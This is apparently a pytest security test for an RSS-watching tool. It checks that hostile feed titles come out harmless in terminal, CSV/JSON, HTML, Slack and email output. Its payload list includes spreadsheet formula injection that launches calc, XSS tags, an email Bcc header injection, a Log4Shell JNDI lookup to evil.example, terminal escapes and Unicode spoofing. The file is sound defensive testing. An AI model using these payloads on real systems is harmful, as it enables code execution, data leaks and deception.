"""Text of the open web at each way out.

Nothing that a terminal, a spreadsheet, a mail reader, Slack or a browser would act on.
"""

from __future__ import annotations

import asyncio
import csv
import email
import email.policy
import io
import json
import re
import subprocess
import sys
from contextlib import AsyncExitStack
from pathlib import Path

import pytest

from tests import texts
from tests.fakes import T0
from tests.poll.newsroom import Item, Reply, Room, rss
from watcher.config import Condition, Receiver, Secret, Watch
from watcher.demo.sinks import SlackSink, SmtpSink, slack_text

TITLES = [
    "\x1b]0;owned\x07\x1b[2J\x1b[31mRed alert",
    '=HYPERLINK("http://evil.example?x="&A1,"Harbour")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script><img src=x onerror=alert(1)> Harbour",
    "<!channel> <!here> <http://evil.example|Click here> *bold*",
    "Harbour\r\nBcc: all@victim.example\r\n\r\nBody of mine",
    "=?utf-8?B?QmNjOiB4?= Harbour",
    "\u202egnp.exe\u2066 invisible\u200b\u200d",
    "Harbour\x00\x08\x08\x08hidden\x9b31m",
    "]]></title><script>alert(2)</script>",
    "${jndi:ldap://evil.example/a} {{7*7}} %s %n",
]
# What a terminal acts on (C0, C1), and what reorders or hides text (Unicode UAX 9, zero widths).
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff]")


# The page's own pictures and the data that it offers for keeping are written in it.
_SAFE = re.compile(r"https?://|cid:|data:(?:image|application)/|#|$")


def escaped(text: str) -> str:
    """A title as CDATA, or by numbers where XML 1.0 has it no other way."""
    return text.replace("]]>", "]]]]><![CDATA[>")


def hostile_feed(start: int) -> Reply:
    """Every title, on copies of one text, each with a guid and a link as bad as it."""
    items = [
        Item(f"Title {n}", texts.HARBOUR, guid=f"guid-{n}", link=f"/a{n}", date=T0)
        for n in range(start, len(TITLES))
    ]
    body = rss(items).decode()
    for n in range(start, len(TITLES)):
        body = body.replace(
            f"<title>Title {n}</title>", f"<title><![CDATA[{escaped(TITLES[n])}]]></title>"
        )
        link = f"http://127.0.0.9/{n}?q={TITLES[n]}"
        body = body.replace(f"guid-{n}<", f"guid-{n}<![CDATA[{escaped(TITLES[n])}]]><")
        body = body.replace(f"<link>/a{n}</link>", f"<link><![CDATA[{escaped(link)}]]></link>")
    return Reply(body.encode("utf-8"), headers={"Content-Type": "application/rss+xml"})


def watcher(url: str, *arguments: str) -> str:
    """What the command prints, as bytes come out of it."""
    done = subprocess.run(
        [sys.executable, "-m", "watcher", "--db", url, *arguments],
        capture_output=True,
        cwd=Path(__file__).parents[2],
        check=False,
    )
    assert done.returncode in (0, 1), done.stderr.decode()
    return done.stdout.decode("utf-8")


@pytest.fixture
def polled(url: str) -> tuple[str, SlackSink, SmtpSink]:
    """A database that has seen it all, and what the receivers were sent."""
    slack, mail = SlackSink(), SmtpSink()

    async def work() -> None:
        async with AsyncExitStack() as stack:
            await slack.start()
            stack.push_async_callback(slack.stop)
            await mail.start()
            stack.push_async_callback(mail.stop)
            room = Room(url, stack)
            stack.push_async_callback(room.close)
            first = await room.outlet("Valley")
            sites = [await room.outlet(name) for name in ("<b>Wild</b>", "=Wild()")]
            room.receivers = [
                Receiver(
                    "slack", Secret("slack://TAAAAAAAA/BAAAAAAAA/aaaaaaaaaaaaaaaaaaaaaaaa/#d")
                ),
                Receiver(
                    "mail",
                    Secret(f"mailto://127.0.0.1:{mail.port}?from=w@a.example&to=d@a.example"),
                ),
            ]
            conditions = (Condition("new_copy"), Condition("first_copy"))
            room.watches = [Watch("w", "text", texts.HARBOUR, conditions, notify=("slack", "mail"))]
            first.pages["/rss"] = Reply(rss([Item("Other", texts.ORCHARD, guid="o", date=T0)]))
            for site in sites:
                site.pages["/rss"] = Reply(rss([Item("Other", texts.LIBRARY, guid="l", date=T0)]))
            await room.open(endpoints={"slack": slack.url})
            await room.poll()
            first.pages["/rss"] = Reply(rss([Item("Harbour", texts.HARBOUR, guid="h", date=T0)]))
            await room.poll()
            for start, site in enumerate(sites):
                site.pages["/rss"] = hostile_feed(start)
            outcomes = await room.poll()
            assert {o.outcome for o in outcomes.values()} <= {"ok", "unchanged"}
            for _ in range(8):
                room.clock.forward(minutes=30)
                await room.service.deliver()

    asyncio.run(work())
    return url, slack, mail


def test_every_way_out(polled: tuple[str, SlackSink, SmtpSink], tmp_path: Path) -> None:
    url, slack, mail = polled
    _the_terminal(url)
    _programs(url)
    _the_browser(url, tmp_path)
    _slack(slack)
    _mail(mail)


QUERIES = [("stories",), ("story", "1"), ("search", "harbour"), ("feeds", "list"),
           ("alerts", "list"), ("outlets",)]  # fmt: skip


def _the_terminal(url: str) -> None:
    shown = ""
    for query in QUERIES:
        out = watcher(url, *query)
        shown += out
        assert CONTROL.search(out) is None, (query, CONTROL.search(out))
        assert all(len(line) <= 200 for line in out.splitlines())
    assert "Red alert" in shown


def _programs(url: str) -> None:
    for query in QUERIES:
        for line in watcher(url, *query, "--json").splitlines():
            assert CONTROL.search(line) is None
            assert isinstance(json.loads(line), dict)
        rows = list(csv.reader(io.StringIO(watcher(url, *query, "--csv"))))
        for cell in (cell for row in rows[1:] for cell in row):
            assert CONTROL.search(cell) is None
            # A number may be negative; a text that begins a formula may not be there bare.
            assert not re.match(r"[=+@\t\r]|-(?![\d.]+$)", cell), cell


def _the_browser(url: str, tmp_path: Path) -> None:
    page = tmp_path / "story.html"
    watcher(url, "report", "1", "-o", str(page))
    html = page.read_text("utf-8")
    assert "Red alert" in html
    _harmless(html)
    # The page itself sets texts of either direction apart, with an isolate and its end.
    assert html.count("\u2068") == html.count("\u2069")
    assert CONTROL.search(re.sub("[\u2068\u2069]", "", html)) is None


def _harmless(page: str) -> None:
    """What a browser makes of a page: no script but the page's own, and no address that acts."""
    from lxml import html

    for node in html.fromstring(page).iter():
        if node.tag == "script":
            assert "alert(" not in (node.text or "")
        for name, value in node.attrib.items():
            assert not name.lower().startswith("on"), (node.tag, name)
            if name in ("href", "src", "action"):
                assert _SAFE.match(value), value[:80]


def _slack(slack: SlackSink) -> None:
    assert slack.posts
    for post in slack.posts:
        text = slack_text(post.payload)
        whole = json.dumps(post.payload, ensure_ascii=False)
        assert "<!channel>" not in whole
        assert "<!here>" not in whole
        assert "<http://evil.example|" not in whole
        assert CONTROL.search(text) is None


def _mail(mail: SmtpSink) -> None:
    assert mail.mails
    for one in mail.mails:
        parsed = email.message_from_bytes(one.data, policy=email.policy.default)
        assert parsed["Bcc"] is None
        assert set(one.recipients) == {"d@a.example"}
        subject = str(parsed["Subject"])
        assert CONTROL.search(subject) is None
        assert "=?" not in subject
        for part in parsed.walk():
            if part.get_content_type() == "text/html":
                _harmless(part.get_content())
                assert "<script" not in part.get_content()
            elif part.get_content_type() == "text/plain":
                plain = part.get_content().replace("\r\n", "\n")  # RFC 5322: how lines end
                assert CONTROL.search(plain) is None
